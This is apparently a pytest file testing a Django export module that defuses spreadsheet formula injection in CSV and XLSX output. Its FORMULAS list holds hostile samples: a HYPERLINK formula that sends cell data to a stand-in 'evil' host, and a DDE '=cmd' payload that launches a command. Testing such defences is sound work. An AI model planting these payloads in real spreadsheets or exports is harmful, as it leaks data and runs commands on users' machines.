"""core.exports: text that a spreadsheet would run as a formula is made inert (an apostrophe in CSV, a text
cell in XLSX), typed values are left as they are, and only CSV and XLSX are offered."""
from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import django_tables2 as tables
import openpyxl
import pytest
from openpyxl import Workbook
from tablib import Dataset

from core.exports import SafeTableExport, keep_text_as_text, neutralise_cell, neutralised_dataset, starts_like_formula

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
PLAIN_TEXT = ["张三", "LAST^FIRST", "", "'=already quoted", "a=b", "Plan 1+1", " =1+1"]
TYPED = [-3, -2.5, Decimal("-1.5"), 0, True, False, None, dt.date(2024, 3, 1),
         dt.datetime(2024, 3, 1, 8, tzinfo=dt.timezone.utc)]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert starts_like_formula(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN_TEXT)
def test_other_text_is_left_alone(text):
    assert not starts_like_formula(text)
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", TYPED)
def test_typed_values_are_left_alone(value):
    """A negative number is a number, not text that starts with a minus sign."""
    assert neutralise_cell(value) is value


def test_an_xlsx_text_cell_stays_text_with_its_own_characters():
    sheet = Workbook().active
    formula, error, number, name = sheet["A1"], sheet["B1"], sheet["C1"], sheet["D1"]
    formula.value, error.value, number.value, name.value = "=SUM(1)", "#N/A", -3, "张三"
    assert (formula.data_type, error.data_type) == ("f", "e")  # what openpyxl makes of them
    for cell in (formula, error, number, name):
        keep_text_as_text(cell)
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=SUM(1)", "s", True)
    assert (error.value, error.data_type, error.quotePrefix) == ("#N/A", "s", False)
    assert (number.value, number.data_type) == (-3, "n")
    assert (name.value, name.data_type, name.quotePrefix) == ("张三", "s", False)


def test_a_neutralised_dataset_is_a_copy_with_headers_and_rows_made_inert():
    original = Dataset(["=1+1", -3, "ok"], headers=["@head", "n", "text"], title="T")
    copy = neutralised_dataset(original)
    assert (copy.title, copy.headers, list(copy)) == ("T", ["'@head", "n", "text"], [("'=1+1", -3, "ok")])
    assert list(original) == [("=1+1", -3, "ok")]


class _PlanTable(tables.Table):
    name = tables.Column()
    mrn = tables.Column()
    change = tables.Column()


ROWS = [{"name": '=HYPERLINK("http://x","y")', "mrn": "@SUM(1)", "change": -3},
        {"name": "＝1+1", "mrn": "000123", "change": 7}]


def test_csv_cells_that_start_like_a_formula_are_quoted_and_numbers_are_not():
    export = SafeTableExport("csv", _PlanTable(ROWS))
    rows = list(csv.reader(io.StringIO(export.export().removeprefix("\ufeff"), newline="")))
    assert rows == [["Name", "Mrn", "Change"], ["'=HYPERLINK(\"http://x\",\"y\")", "'@SUM(1)", "-3"],
                    ["'＝1+1", "000123", "7"]]


def test_xlsx_cells_are_text_with_the_original_characters_and_numbers_stay_numbers():
    content = SafeTableExport("xlsx", _PlanTable(ROWS)).export()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [[('=HYPERLINK("http://x","y")', "s"), ("@SUM(1)", "s"), (-3, "n")],
                     [("＝1+1", "s"), ("000123", "s"), (7, "n")]]
    assert sheet["A2"].quotePrefix and not sheet["B3"].quotePrefix
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"  # tablib's layout is kept


@pytest.mark.parametrize("export_format", ["tsv", "ods", "json", "yaml", "latex", "xls"])
def test_only_csv_and_xlsx_are_offered(export_format):
    assert SafeTableExport.is_valid_format("csv") and SafeTableExport.is_valid_format("xlsx")
    assert not SafeTableExport.is_valid_format(export_format)


class _Timed(tables.Table):
    name = tables.Column()
    at = tables.Column()
    done = tables.Column(default="—")


def _timed_rows():
    return [{"name": "张三", "at": dt.datetime(2026, 3, 2, 0, 5, 9, 123456, tzinfo=dt.timezone.utc), "done": None}]


def test_csv_is_utf8_with_a_bom_and_times_in_the_site_zone_with_their_offset(settings):
    from django.utils import timezone

    with timezone.override("Asia/Shanghai"):
        body = SafeTableExport("csv", _Timed(_timed_rows())).export()
    assert body.startswith("\ufeff"), "Excel on Chinese Windows needs the byte-order mark"
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows == [["Name", "At", "Done"], ["张三", "2026-03-02 08:05:09+08:00", ""]]


def test_xlsx_times_are_date_cells_in_the_site_zone_named_in_the_header():
    from django.utils import timezone

    with timezone.override("Asia/Shanghai"):
        content = SafeTableExport("xlsx", _Timed(_timed_rows())).export()
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, row = [[cell for cell in r] for r in sheet.iter_rows()]
    assert [c.value for c in header] == ["Name", "At (Asia/Shanghai)", "Done"]
    assert row[1].is_date and row[1].value == dt.datetime(2026, 3, 2, 8, 5, 9)
    assert row[2].value in (None, "")
